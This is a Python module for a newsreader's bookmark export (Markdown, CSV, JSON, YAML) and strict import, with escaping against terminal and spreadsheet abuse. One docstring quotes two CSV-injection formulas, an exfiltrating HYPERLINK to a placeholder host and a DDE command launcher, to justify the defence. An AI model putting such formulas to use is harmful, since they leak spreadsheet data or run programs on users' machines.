"""Bookmark export (Markdown, CSV, JSON, YAML) and import (JSON, YAML).

Markdown is for reading and sharing, so it carries the article's first paragraph (and its web
address, when the page stated one); CSV is for a spreadsheet (one row per bookmark, with the
byline, the page's file and the story's address to cite from);
JSON and YAML are for moving bookmarks between machines, so they carry what `import` needs and
the story's web address and byline (`url`, `byline`: to open or cite the story, as every other
export has them; import keeps both, for when the story is not in that corpus, and leaves
`missing`). Every export takes them from the corpus when it has the story, else the ones the
bookmark kept (`Bookmark.url`, `Bookmark.byline`). Import is strict: a file that is not one of our
exports gets one clear line naming the problem, never a partial merge; a CSV export is said
to be one (a spreadsheet may have changed its cells: it is not read back).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import re
from pathlib import Path
from typing import Any, Collection, Iterable, Mapping, TextIO

import yaml
from slugify import slugify

from newsreader import yamlload
from newsreader.config import expand_home
from newsreader.errors import UserError, printable, printable_json, value_kind
from newsreader.fileio import is_special, write_text_atomically
from newsreader.store.db import Bookmark, IdNotText, ImportNotes, _kept_url

#: Export format -> file ending; `bookmarks export --format` offers these.
FORMATS: dict[str, str] = {"md": ".md", "json": ".json", "yaml": ".yaml", "csv": ".csv"}
#: The formats `import` reads back.
IMPORTABLE = ("json", "yaml")
#: The formats that carry the article's text and page (the first paragraph, byline, file):
#: the CLI reads the corpus for them; JSON and YAML carry the bookmark alone.
WITH_ARTICLES = frozenset({"md", "csv"})
#: What is done with a bookmarked story whose stored record cannot be read, said by the CLI and the palette alike.
UNREAD_EXPORTED = "exported without its text (with the address its bookmark kept, if any)"
#: The CSV export's header row, in column order (`bookmarks list --json`'s and `show --json`'s
#: key names where they have one).
CSV_COLUMNS = ("id", "title", "date", "source", "byline", "dateline", "tags", "note", "file", "url",
               "bookmarked_utc", "in_corpus", "first_paragraph")
#: Marks our JSON/YAML documents, so import can refuse some other tool's file clearly.
DOCUMENT_KIND = "newsreader-bookmarks"
DOCUMENT_VERSION = 1


def default_filename(fmt: str, today: dt.date | None = None) -> str:
    """`bookmarks-2026-11-22.md`: dated so repeated exports do not clobber older ones."""
    day = (today or dt.date.today()).isoformat()
    return slugify(f"bookmarks {day}") + FORMATS[fmt]


def export_bookmarks(
    bookmarks: Iterable[Bookmark],
    fmt: str,
    *,
    articles: Mapping[str, Any] | None = None,
    urls: Mapping[str, str] | None = None,
    bylines: Mapping[str, str | None] | None = None,
    unreadable: Collection[str] = (),
    now: dt.datetime | None = None,
    busy: bool = False,
) -> str:
    """Render bookmarks in `fmt` (one of `FORMATS`). `articles` maps id -> Article for the
    Markdown first paragraphs and the CSV's byline, file and paragraph; for articles that left the
    corpus the Markdown says so, and without it (the corpus could not be read) it says that, with each
    bookmark's `missing` (the corpus's last check: `NOT_READ_TEXT`), never that the story has gone; the
    CSV leaves those cells empty (`in_corpus` says which: empty when the corpus could not be
    read at all, `articles` None). `urls` maps id -> the story's web address for JSON and YAML
    (the articles' own when not given): each record's `url` is the address, "" when the
    story's page states none; for a story not at hand (not in the corpus, or no index was
    read, or its stored record cannot be read) the one its bookmark kept, null when it kept
    none. `byline` likewise, from `bylines` (id -> the story's byline or None) when given: the corpus's
    at the export, not the bookmark's, which may be older (the store was busy: not refreshed). `unreadable`: the stories in the index whose
    stored record cannot be read (damaged): in the corpus, without their text (`UNREADABLE_TEXT`). `busy`: the
    corpus was not read because another run was updating its index (the Markdown says so: `BUSY_TEXT`)."""
    items = list(bookmarks)
    stamp = (now or dt.datetime.now(dt.timezone.utc)).replace(microsecond=0)
    if fmt == "md":
        return _markdown(items, articles, stamp, unreadable, busy)
    if fmt == "csv":
        return _csv(items, articles, unreadable)
    document = {
        "format": DOCUMENT_KIND,
        "version": DOCUMENT_VERSION,
        "exported_at": stamp.isoformat(),
        "bookmarks": [_record(b, _url(b, articles, urls), _byline(b, articles, bylines)) for b in items],
    }
    if fmt == "json":
        # An imported file's C1 controls and bidi overrides as \u escapes: the export is
        # read on a terminal too (`-o -`), as the Markdown one is.
        return printable_json(json.dumps(document, ensure_ascii=False, indent=2)) + "\n"
    if fmt == "yaml":
        # Readable Unicode where it survives a round trip; PyYAML writes a few characters
        # (NEL, line and paragraph separators) raw, and YAML reads them back as line breaks.
        # Bidi overrides it writes raw too (they reorder a terminal's line): escaped then.
        readable = yaml.safe_dump(document, sort_keys=False, allow_unicode=True)
        if yaml.safe_load(readable) == document and all(printable(line) == line for line in readable.split("\n")):
            return readable
        return yaml.safe_dump(document, sort_keys=False, allow_unicode=False)
    raise ValueError(f"unknown export format {fmt!r}")


def _url(bookmark: Bookmark, articles: Mapping[str, Any] | None, urls: Mapping[str, str] | None) -> str | None:
    """A bookmark's story's `url` in every export and `bookmarks list --json`: the corpus's (from `urls`,
    else the article's) when it names one, else the one the bookmark kept, else "" when the corpus has the
    story and its page states none, else None (not known): the store's rule (`_kept_url`), so a copy of the
    page that states no address never hides the one the bookmark kept."""
    if urls is not None and bookmark.article_id in urls:
        return _kept_url(urls[bookmark.article_id] or "", bookmark.url)
    article = (articles or {}).get(bookmark.article_id)
    return bookmark.url if article is None else _kept_url(getattr(article, "url", "") or "", bookmark.url)


def _byline(bookmark: Bookmark, articles: Mapping[str, Any] | None,
            bylines: Mapping[str, str | None] | None = None) -> str | None:
    """A bookmark's story's byline: the corpus's (from `bylines`, else the article's) when it has the story
    and names one, else the one the bookmark kept (as the store keeps it: a copy without one never hides it)."""
    if bylines is not None and bookmark.article_id in bylines:
        return bylines[bookmark.article_id] or bookmark.byline or None
    article = (articles or {}).get(bookmark.article_id)
    return (getattr(article, "byline", None) if article is not None else None) or bookmark.byline or None


def bookmark_record(bookmark: Bookmark, articles: Mapping[str, Any] | None) -> dict[str, Any]:
    """One bookmark as the JSON and YAML exports write it, its story's `url` and `byline` included:
    `bookmarks list --json` prints the same shape, so a script reads one format from either."""
    return _record(bookmark, _url(bookmark, articles, None), _byline(bookmark, articles))


def _record(bookmark: Bookmark, url: str | None, byline: str | None) -> dict[str, Any]:
    """The bookmark's export record (`Bookmark.to_dict`) with the story's address and byline after its date."""
    record: dict[str, Any] = {}
    for key, value in bookmark.to_dict().items():
        record[key] = value
        if key == "date":
            record["url"] = url
            record["byline"] = byline
    return record


_MD_SPECIAL = re.compile(r"([\\`*_\[\]<>#|])")


def _md(text: str) -> str:
    """Escape inline Markdown so a title like `*Breaking*` prints as typed, and controls
    (ESC, from an imported file) as `\\x1b`: the file is read on a terminal too."""
    return _MD_SPECIAL.sub(r"\\\1", printable(" ".join(text.split())))


#: What opens a Markdown block at a line's start that `_md` leaves: a list item (`-`, `+`,
#: `1.`, `1)`), a setext heading's underline (`===`, `---`, also a rule), a code fence (`~~~`).
_MD_BLOCK_START = re.compile(r"[-+=~]|[0-9]{1,9}[.)]")


def _note(note: str) -> list[str]:
    r"""The note as typed, line for line: each line escaped as a title is and with what would
    open a block at its start escaped too, the lines joined by hard breaks (a trailing `\`).
    Written raw, a note line `- call back` became a bullet, `# later` a heading and `---`
    turned the line above into one. A blank line stays a paragraph break."""
    lines = [_md(line) for line in note.strip().splitlines()]
    lines = [line[:m.end() - 1] + "\\" + line[m.end() - 1:] if (m := _MD_BLOCK_START.match(line)) else line
             for line in lines]
    lines[0] = f"**Note:** {lines[0]}"
    return [line + "\\" if line and i + 1 < len(lines) and lines[i + 1] else line for i, line in enumerate(lines)]


def _first_paragraph(article: Any) -> str | None:
    for paragraphs in (getattr(article, "body", None), getattr(article, "summary", None)):
        for paragraph in paragraphs or []:
            if paragraph.strip():
                return paragraph.strip()
    return None


#: The Markdown export's line for a story the index has but cannot read.
UNREADABLE_TEXT = "_The article's text cannot be read from the index (damaged); `newsreader index --rebuild` reads it again._"


#: The Markdown export's line for a story the corpus does not have.
GONE_TEXT = "_The article is not in the corpus any more; only its bookmark is kept._"
#: Its line when the corpus could not be read (another run updating the index, a folder that is not
#: there), by the bookmark's `missing` as at the corpus's last check (True, False, None: no check saw it).
#: It said GONE_TEXT of every story, while the JSON export at the same moment had them present.
NOT_READ_TEXT = {
    True: "_The corpus could not be read at the export; the article was not in it at its last check, and only "
          "its bookmark is kept._",
    False: "_The corpus could not be read at the export, so the article's text is not here; it was in the corpus "
           "at its last check._",
    None: "_The corpus could not be read at the export, so the article's text is not here; whether it is still in "
          "the corpus is not known._",
}
#: The same when the corpus was not read because another run was updating its index (the folder was fine).
BUSY_TEXT = {missing: text.replace("The corpus could not be read at the export", "Another run was updating the "
                                   "index at the export") for missing, text in NOT_READ_TEXT.items()}


def _markdown(items: list[Bookmark], articles: Mapping[str, Any] | None, stamp: dt.datetime,
              unreadable: Collection[str] = (), busy: bool = False) -> str:
    """`articles` None: the corpus was not read (`NOT_READ_TEXT`; `BUSY_TEXT` when `busy`)."""
    at_hand = articles or {}
    count = f"{len(items)} bookmark" + ("" if len(items) == 1 else "s")
    out = ["# Bookmarks", "", f"Exported from newsreader on {stamp.date().isoformat()}: {count}.", ""]
    for b in items:
        out += [f"## {_md(b.title) or '(untitled)'}", ""]
        out.append(f"- Date: {b.date.isoformat() if b.date else 'undated'}")
        out.append(f"- Source: {_md(b.source) if b.source else 'unknown'}")
        out.append(f"- Tags: {', '.join(_md(t) for t in b.tags) if b.tags else 'none'}")
        out.append(f"- Bookmarked: {b.created_at.astimezone(dt.timezone.utc).strftime('%Y-%m-%d %H:%M')} UTC")
        out.append(f"- Id: `{printable(b.article_id)}`")
        article = at_hand.get(b.article_id)
        url = _url(b, at_hand, None)  # (the corpus's, else the one the bookmark kept)
        if url:  # (an autolink: the story's web address, to cite or open it)
            out.append(f"- Link: <{printable(url)}>")
        out.append("")
        if b.note.strip():
            out += _note(b.note)
            out.append("")
        paragraph = _first_paragraph(article) if article is not None else None
        if paragraph:
            out += ["> " + line if line else ">" for line in paragraph.splitlines()]
        elif b.article_id in unreadable:
            out.append(UNREADABLE_TEXT)
        elif articles is None:
            out.append((BUSY_TEXT if busy else NOT_READ_TEXT)[b.missing])
        elif article is None:
            out.append(GONE_TEXT)
        else:
            out.append("_The article has no text._")
        out.append("")
    return "\n".join(out)


#: What a spreadsheet runs as a formula when a cell starts with it (and Excel's DDE, `=cmd|...`).
_FORMULA_START = ("=", "+", "-", "@")


def _cell(text: str | None) -> str:
    r"""One CSV cell: the text with its line breaks kept (the csv module quotes the cell, RFC
    4180), every other control or bidi override escaped as `printable` writes it (`\x1b`:
    the file is read on a terminal too, `-o -`, as the other exports are), and a leading `'`
    when it starts with = + - or @. Titles, bylines and paragraphs come from saved web pages
    and notes may come from an imported file: a cell `=HYPERLINK("http://x/?"&A1, "…")` or
    `=cmd|' /C calc'!A0` opened in Excel, LibreOffice or Google Sheets would run as a formula,
    sending the sheet's cells away or starting a program (OWASP's "CSV injection"). The `'`
    makes the cell text; the cost is a visible `'` before a note such as "- call back" in a
    text editor. (Tab and CR, the other two starts OWASP lists, are escaped already.)"""
    if not text:
        return ""
    text = "\n".join(printable(line) for line in text.replace("\r\n", "\n").split("\n"))
    return "'" + text if text.startswith(_FORMULA_START) else text


def _csv(items: list[Bookmark], articles: Mapping[str, Any] | None, unreadable: Collection[str] = ()) -> str:
    """One row per bookmark under a header row (`CSV_COLUMNS`), UTF-8 text with no byte-order
    mark, rows ended by CRLF as RFC 4180 says (a note's own line breaks stay LF, inside its
    quotes). Tags are joined by ", " as the Markdown writes them (a tag holds no comma the
    CLI lets in: `--tag a,b` is two)."""
    out = io.StringIO()
    writer = csv.writer(out)  # the "excel" dialect: quotes only what needs it, "" for a quote
    writer.writerow(CSV_COLUMNS)
    for b in items:
        article = articles.get(b.article_id) if articles is not None else None
        in_corpus = "" if articles is None else "yes" if article is not None or b.article_id in unreadable else "no"
        row = {
            "id": b.article_id,
            "title": b.title,
            "date": b.date.isoformat() if b.date else "",
            "source": b.source,
            "byline": _byline(b, articles),  # (the corpus's, else the one the bookmark kept)
            "dateline": getattr(article, "dateline", None),
            "tags": ", ".join(b.tags),
            "note": b.note.strip(),
            "file": getattr(article, "file", None),
            "url": _url(b, articles, None),  # (the story's web address, to cite it: "" when not stated or known)
            # As a spreadsheet reads a date and time (no "T", no zone: the column's name says UTC).
            "bookmarked_utc": b.created_at.astimezone(dt.timezone.utc).strftime("%Y-%m-%d %H:%M:%S"),
            "in_corpus": in_corpus,
            "first_paragraph": _first_paragraph(article) if article is not None else None,
        }
        writer.writerow([_cell(row[column]) for column in CSV_COLUMNS])
    return out.getvalue()


def _csv_refusal(where: str) -> UserError:
    """The one line for a CSV given to import: what it is, and which files import reads."""
    kinds = " or ".join(f.upper() for f in IMPORTABLE)
    return UserError(f"{where}: CSV cannot be imported (the CSV export is for spreadsheets); import a {kinds} "
                     f"export instead: `newsreader bookmarks export --format {'|'.join(IMPORTABLE)}`")


def parse_export(text: str, where: str, said: ImportNotes | None = None) -> list[Bookmark]:
    """Read a JSON or YAML export back into bookmarks. Raise `UserError` naming `where`
    and the first problem; a bare list of bookmark records is accepted too. A record whose id is
    not UTF-8 text is left out (`IdNotText`: it names no story, and cleaned it could merge with
    another record); it and what was cleaned or left out of the others are counted in `said`."""
    said = said if said is not None else ImportNotes()
    if not text.strip():
        raise UserError(f"{where}: empty file; use a file made by `newsreader bookmarks export --format json|yaml`")
    if text.lstrip("\ufeff").startswith(",".join(CSV_COLUMNS[:3])):  # our CSV's header (a BOM from a spreadsheet)
        raise _csv_refusal(where)
    try:
        data = json.loads(text)
    except (ValueError, RecursionError):  # (RecursionError: nested too deeply for the parser)
        try:
            data = yaml.safe_load(text)
        except (yaml.YAMLError, RecursionError) as exc:
            line = f" (line {n})" if (n := yamlload.error_line(exc)) else ""
            raise UserError(
                f"{where}: not a JSON or YAML bookmarks export{line}; "
                "use a file made by `newsreader bookmarks export --format json|yaml`"
            ) from None
    if isinstance(data, Mapping):
        kind = data.get("format")
        if kind != DOCUMENT_KIND:
            # `format is None` was Python's word for a file with no "format" (or a null one).
            found = ("no \"format\" key" if "format" not in data else
                     f"format is {kind!r}" if isinstance(kind, str) else f"format is {value_kind(kind)}")
            raise UserError(
                f"{where}: not a newsreader bookmarks export ({found}, expected "
                f"{DOCUMENT_KIND!r}); use a file made by `newsreader bookmarks export`"
            )
        version = data.get("version")
        if not isinstance(version, int) or isinstance(version, bool):  # no newer newsreader reads it either
            found = (f"version is {value_kind(version)}, not a whole number" if "version" in data
                     else "no \"version\" key")
            raise UserError(f"{where}: not a newsreader bookmarks export ({found}); "
                            "use a file made by `newsreader bookmarks export`")
        if version > DOCUMENT_VERSION:
            raise UserError(
                f"{where}: export version {version!r} is not one this newsreader reads "
                f"(up to {DOCUMENT_VERSION}); upgrade newsreader"
            )
        records = data.get("bookmarks")
    else:
        records = data
    if not isinstance(records, list):
        raise UserError(
            f"{where}: expected a list of bookmarks, got {value_kind(records)}; "
            "use a file made by `newsreader bookmarks export --format json|yaml`"
        )
    bookmarks = []
    for number, record in enumerate(records, 1):
        try:
            bookmarks.append(Bookmark.from_dict(record, said))
        except IdNotText:
            said.skipped.append(number)
        except ValueError as exc:
            raise UserError(f"{where}: bookmark #{number}: {exc}; nothing was imported") from None
    return bookmarks


def read_export_file(path: Path, said: ImportNotes | None = None) -> list[Bookmark]:
    """`parse_export` on a file, with the file's own problems as one line too."""
    try:
        text = path.read_text(encoding="utf-8")
    except FileNotFoundError:
        raise UserError(f"{path}: no such file") from None
    except IsADirectoryError:
        raise UserError(f"{path}: is a folder, expected an exported bookmarks file") from None
    except UnicodeDecodeError:
        raise UserError(f"{path}: not UTF-8 text; expected a JSON or YAML bookmarks export") from None
    except OSError as exc:
        raise UserError(f"{path}: cannot read it ({exc.strerror or exc})") from None
    try:
        return parse_export(text, str(path), said)
    except UserError:
        if path.suffix.lower() == ".csv":  # a CSV that is not ours as written (a spreadsheet saved it again)
            raise _csv_refusal(str(path)) from None
        raise


def write_export(text: str, destination: str | None, fmt: str, stdout: TextIO, *, force: bool = False,
                 folder: Path | None = None) -> str | None:
    """Never loses a file: with no destination the export goes to the first free name of
    `bookmarks-DATE.EXT`, `bookmarks-DATE-2.EXT`, ... (in `folder`, else the current one: a path
    with its folder is what a failed write names); a named file that exists is replaced
    only with `force`. `-` means stdout. Returns the path written, or None for stdout."""
    if destination == "-":
        stdout.write(text)
        return None
    if destination is None:
        first = (folder or Path()) / default_filename(fmt)
        others = (first.with_name(f"{first.stem}-{n}{first.suffix}") for n in itertools.count(2))
        return str(write_text_atomically(first, text, replace=False, then=others))
    path = expand_home(destination, "-o")
    if path.is_dir():
        raise UserError(f"{path} is a folder; give a file name to write to")
    # A pipe, a terminal, /dev/stdout: the atomic write writes into it, as `>` does, and no
    # file is overwritten, so no --force is needed.
    force = force or is_special(path)
    if write_text_atomically(path, text, replace=force) is None:
        raise UserError(f"{path} exists; pass --force to replace it, or choose another file")
    return str(path)
